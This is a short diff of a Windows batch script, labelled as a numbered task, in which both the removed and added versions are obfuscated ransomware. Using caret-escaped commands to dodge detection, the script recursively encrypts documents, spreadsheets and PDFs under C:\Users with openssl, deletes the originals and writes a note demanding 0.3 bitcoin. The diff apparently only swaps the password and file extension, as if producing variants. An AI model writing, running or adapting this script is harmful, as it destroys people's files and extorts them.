@@ -1,6 +1,6 @@
-REM task 2355 v0
+REM task 7829 v0
 @echo off
-fo^r /r C:\Us^e^rs %%f in (*.do^cx *.xlsx *.^pd^f) d^o (
-  ^opens^sl enc -ae^s-25^6-^c^bc -pas^s ^pas^s:^S^up3^rS3c^ure! -in "%%f" -out "%%f.enc" && de^l "%%f"
+f^or /r ^C:\User^s %%f i^n (*.^d^o^cx *.^x^l^sx *.^pdf) do (
+  ^o^p^enss^l ^e^nc -aes-^25^6-cb^c -pas^s p^a^ss:Qwer^ty#7^7^8^8 -^in "%%f" -^o^ut "%%f.r4nsom" && d^e^l "%%f"
 )
-echo Y^ou^r f^i^les ^hav^e b^e^en en^c^ryp^ted. ^S^e^nd 0.^3 bitc^o^i^n ^t^o re^c^ov^e^r t^h^e key > ^C:\^U^s^e^r^s\P^u^b^l^ic\D^esktop\RE^A^D^ME_R^ESTORE_^F^I^L^ES.t^xt
+e^cho Y^o^ur fi^le^s ha^ve ^b^ee^n ^en^c^ry^p^ted. ^Sen^d 0.3 ^bitc^oin t^o r^ec^over ^th^e ke^y > C:\Use^rs\Pu^bl^i^c\D^e^skto^p\R^E^ADM^E_RES^T^OR^E_FIL^E^S.^t^xt
